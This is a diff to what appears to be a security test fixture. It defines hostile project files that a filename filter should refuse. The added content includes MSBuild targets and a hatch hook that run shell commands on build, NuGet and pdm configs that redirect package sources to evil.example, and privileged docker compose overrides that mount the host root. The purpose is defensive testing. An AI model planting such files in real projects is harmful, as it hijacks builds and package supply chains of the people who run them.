@@ -2,8 +2,9 @@
 tests/quarantine/test_attack_independent_ntext.py).
 
 Hostile: files a web server runs or serves by their name's extension as configuration
-(Debian Apache's type maps, twistd web's resource scripts), names ROOT, listings, babel
-and ltxdoc read from `.`, LaTeX job files whose job only a TeX-only name shows, names a
+(Debian Apache's type maps, twistd web's resource scripts), names ROOT, listings, babel,
+ltxdoc and voila read from `.`, build tools' project configuration (MSBuild, NuGet, the
+.NET SDK, docker compose, hatch, pdm), LaTeX job files whose job only a TeX-only name shows, names a
 Windows ANSI program sees with path separators (best fit), a name that looks blank.
 Controls: what a lab's LaTeX project and a logging job publish (real tool output where
 a tool writes the bytes: pandas' to_latex, logging's rotated files).
@@ -56,6 +57,30 @@ VOILA = (json.dumps({"Voila": {"browser": "sh -c 'id > /tmp/pwned' %s", "ip": "0
                     indent=2) + "\n").encode()
 
 
+# Build and run tools that read these names from the project's directory (and its
+# parents) on every run, unasked: the class of the refused CTestCustom.cmake, bunfig.toml,
+# uv.toml, pyproject.toml. A job's output copied into a project directory takes effect.
+_MSBUILD = (
+    b"\xef\xbb\xbf<Project>\n  <Target Name=\"Calib\" BeforeTargets=\"Build\">\n"
+    b"    <Exec Command=\"id &gt; /tmp/pwned\" />\n  </Target>\n</Project>\n"
+)
+BUILD_CONFIG = {
+    "Directory.Build.props": _MSBUILD,
+    "Directory.Build.targets": _MSBUILD,
+    "NuGet.Config": b"\xef\xbb\xbf<configuration>\n  <packageSources>\n    <clear />\n"
+    b"    <add key=\"lab\" value=\"https://evil.example/v3/index.json\" />\n"
+    b"  </packageSources>\n</configuration>\n",
+    "global.json": (json.dumps({"msbuild-sdks": {"Lab.Build.Sdk": "1.0.0"}}, indent=2)
+                    + "\n").encode(),
+    "compose.override.yaml": b"services:\n  app:\n    privileged: true\n    volumes:\n"
+    b"      - /:/host\n    command: sh -c \"id > /host/tmp/pwned\"\n",
+    "docker-compose.override.yml": b"services:\n  app:\n    privileged: true\n"
+    b"    volumes:\n      - /:/host\n",
+    "hatch.toml": b"[envs.default]\npre-install-commands = [\"sh -c 'id > /tmp/pwned'\"]\n",
+    "pdm.toml": b"[pypi]\nurl = \"https://evil.example/simple\"\n",
+}
+
+
 def name_hostile() -> dict[str, bytes]:
     files = {
         "negotiate.var": TYPE_MAP,
@@ -88,7 +113,7 @@ def name_hostile() -> dict[str, bytes]:
         # U+2800 BRAILLE PATTERN BLANK (So): shown as an empty cell, no blank to Unicode
         "results\u2800.csv": b"run,events\n42,1000\n",
     }
-    return files
+    return files | BUILD_CONFIG
 
 
 # Published by design ("By design not refused: hyperref's .out ... main.out beside main.tex
